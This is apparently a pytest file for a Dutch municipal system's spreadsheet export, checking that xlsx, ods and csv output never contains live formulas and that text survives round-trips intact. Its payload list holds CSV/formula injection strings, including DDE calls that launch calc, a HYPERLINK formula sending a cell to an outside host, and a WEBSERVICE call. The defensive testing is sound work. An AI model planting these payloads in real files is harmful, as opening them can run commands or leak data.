"""Any list as a file: nothing in it is a formula, and everything comes back as it went in."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
import python_calamine

from regio.uitwisseling.formules import met_voorvoegsel, zonder_voorvoegsel
from statushouders.uitwisseling.lijst import Kolom, Tabel, schrijf, schrijf_boek

GEVAARLIJK = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "+", "-", "@", "==1", "--1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0", "=DDE(\"a\";\"b\";\"c\")",
    '=HYPERLINK("http://voorbeeld.invalid?x="&A1,"klik")', '=WEBSERVICE("http://x")',
    "@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "''=1+1", "'-1", '"=1+1"', ";=1+1", ",=1+1",
    "{=1+1}", "<r><t>x</t></r>", "<r></is></c><c r=\"Z9\"><f>1+1</f></c><c><is></r>",
    "]]><f>1</f>", "&lt;f&gt;", "_x003D_1+1", "%0A=1+1", "0012", "1E5", "31-1-2024", "TRUE", "#N/A",
    "'s-Gravenhage", "  dubbel  gat ", "a\tb", "a\nb", "é 漢字 🙂 العربية",
]  # fmt: skip


def cellen_van_openpyxl(inhoud):
    return [list(rij) for rij in openpyxl.load_workbook(io.BytesIO(inhoud)).active.iter_rows()]


def cellen_van_calamine(inhoud):
    boek = python_calamine.load_workbook(io.BytesIO(inhoud))
    return boek.get_sheet_by_index(0).to_python(skip_empty_area=False)


def test_there_are_enough_payloads():
    assert len(GEVAARLIJK) >= 40


def test_no_cell_and_no_header_of_xlsx_is_a_formula():
    inhoud = schrijf(GEVAARLIJK, [GEVAARLIJK, GEVAARLIJK[::-1]], "xlsx", "=1+1")

    rijen = cellen_van_openpyxl(inhoud)
    assert {cel.data_type for rij in rijen for cel in rij} == {"s"}
    with zipfile.ZipFile(io.BytesIO(inhoud)) as pakket:
        assert b"<f" not in pakket.read("xl/worksheets/sheet1.xml")
        assert "xl/externalLinks/externalLink1.xml" not in pakket.namelist()


def test_no_cell_and_no_header_of_ods_is_a_formula():
    inhoud = schrijf(GEVAARLIJK, [GEVAARLIJK], "ods", "=1+1")

    with zipfile.ZipFile(io.BytesIO(inhoud)) as pakket:
        tekst = pakket.read("content.xml")
    assert b"table:formula" not in tekst
    assert tekst.count(b'office:value-type="string"') == 2 * len(GEVAARLIJK)


@pytest.mark.parametrize("formaat", ["xlsx", "ods"])
def test_every_text_comes_back_as_it_was(formaat):
    inhoud = schrijf(GEVAARLIJK, [GEVAARLIJK], formaat)

    assert cellen_van_calamine(inhoud) == [GEVAARLIJK, GEVAARLIJK]


def test_openpyxl_reads_the_same_text():
    rijen = cellen_van_openpyxl(schrijf(GEVAARLIJK, [], "xlsx"))

    # openpyxl leaves the escape of what looks like an escape.
    verwacht = [tekst.replace("_x003D_", "_x005F_x003D_") for tekst in GEVAARLIJK]
    assert [cel.value for cel in rijen[0]] == verwacht


def test_csv_has_a_mark_before_what_looks_like_a_formula_and_reading_takes_it_off():
    inhoud = schrijf(GEVAARLIJK, [GEVAARLIJK], "csv").decode("utf-8-sig")

    rijen = list(csv.reader(io.StringIO(inhoud, newline=""), delimiter=";"))
    for rij in rijen:
        assert [zonder_voorvoegsel(cel) for cel in rij] == GEVAARLIJK
        assert not any(cel.strip("\u200b\ufeff \t\r\n\u00a0")[:1] in tuple("=+@") for cel in rij)


@pytest.mark.parametrize("tekst", GEVAARLIJK)
def test_the_mark_can_always_be_taken_off_again(tekst):
    assert zonder_voorvoegsel(met_voorvoegsel(tekst)) == tekst
    assert zonder_voorvoegsel(met_voorvoegsel(met_voorvoegsel(tekst))) == met_voorvoegsel(tekst)


# A moment without a zone, as a spreadsheet has it.
MOMENT = datetime.fromisoformat("2024-01-31T09:05")
WAARDEN = ["naam", date(2024, 1, 31), 12, Decimal("2.5"), True, None, MOMENT]


def test_days_are_days_and_numbers_are_numbers():
    koppen = [Kolom("naam"), "dag", ("getal", "getal"), "deel", "ja", "leeg", "moment"]
    for formaat in ("xlsx", "ods"):
        kop, rij = cellen_van_calamine(schrijf(koppen, [WAARDEN], formaat))
        assert kop == ["naam", "dag", "getal", "deel", "ja", "leeg", "moment"]
        assert rij == ["naam", date(2024, 1, 31), 12.0, 2.5, "ja", "", MOMENT]

    tekst = schrijf(koppen, [WAARDEN], "csv").decode("utf-8-sig")
    assert tekst.splitlines()[1] == "naam;2024-01-31;12;2.5;ja;;2024-01-31 09:05"


def test_the_header_is_frozen_and_has_filters():
    inhoud = schrijf(["a", "b"], [["x", "y"], ["z", "w"]], "xlsx", "Personen: [mijn]/alle")

    blad = openpyxl.load_workbook(io.BytesIO(inhoud)).active
    assert blad.freeze_panes == "A2"
    assert blad.auto_filter.ref == "A1:B3"
    with zipfile.ZipFile(io.BytesIO(schrijf(["a", "b"], [["x", "y"]], "ods"))) as pakket:
        assert b"display-filter-buttons" in pakket.read("content.xml")
        assert b"VerticalSplitPosition" in pakket.read("settings.xml")


def test_example_data_says_so_in_every_sheet(settings):
    settings.ONTWIKKELING = True
    for formaat in ("xlsx", "ods"):
        boek = python_calamine.load_workbook(
            io.BytesIO(schrijf(["a"], [["x"]], formaat, "Personen"))
        )
        assert boek.sheet_names == ["Personen voorbeeldgegevens"]
    settings.ONTWIKKELING = False
    boek = python_calamine.load_workbook(io.BytesIO(schrijf(["a"], [], "xlsx", "Personen")))
    assert boek.sheet_names == ["Personen"]


def test_several_tables_are_several_sheets():
    tabellen = [Tabel("een", [Kolom("a")], [["x"]]), Tabel("twee", [Kolom("b")], [])]
    for formaat in ("xlsx", "ods"):
        inhoud = schrijf_boek(tabellen, formaat, "boek")
        assert python_calamine.load_workbook(io.BytesIO(inhoud)).sheet_names == ["een", "twee"]


def test_another_format_is_refused():
    with pytest.raises(ValueError, match="Geen bestandssoort"):
        schrijf(["a"], [], "pdf")


def test_an_empty_list_is_a_file_with_headers():
    for formaat in ("xlsx", "ods"):
        assert cellen_van_calamine(schrijf(["a", "b"], [], formaat)) == [["a", "b"]]
